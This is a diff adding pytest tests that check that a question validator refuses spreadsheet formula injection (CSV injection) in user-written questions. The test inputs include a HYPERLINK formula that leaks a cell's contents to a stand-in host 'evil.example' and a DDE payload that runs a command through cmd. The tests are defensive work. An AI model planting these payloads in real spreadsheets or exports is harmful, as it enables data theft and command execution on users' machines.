@@ -47,3 +47,27 @@ def test_how_and_why_rule(question, ok):
 
 def test_too_short_is_refused():
     assert not check_question("Who?", HIGHLIGHTS, max_overlap=1.0).ok
+
+
+@pytest.mark.parametrize("question", [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Who pays?")',
+    "+cmd|' /C calc'!A0 and who pays for it?",
+    "-2+3 is what the council pays?",
+    "@SUM(1+1) who pays for the library?",
+    "\t=1+1 who pays for the library?",  # stored stripped: it would start with "="
+    "  =1+1 who pays for the library?",
+])
+def test_a_question_a_spreadsheet_would_run_as_a_formula_is_refused(question):
+    # The NewsQA combined CSV carries questions as written (CSV injection): refused where
+    # they are written, with a reason that says what to do.
+    verdict = check_question(question, HIGHLIGHTS, max_overlap=1.0)
+    assert not verdict.ok
+    assert verdict.reason.startswith("Start your question with a word")
+    assert "=, +, - or @" in verdict.reason
+
+
+def test_formula_characters_inside_a_question_are_fine():
+    assert check_question("Who pays the 2+2=4 dollars, and who gets -3 @ night?", HIGHLIGHTS,
+                          max_overlap=1.0).ok
+    # A leading tab is white space the stored question loses: what remains is checked.
+    assert check_question("\tWho voted against the plan?", HIGHLIGHTS, max_overlap=1.0).ok
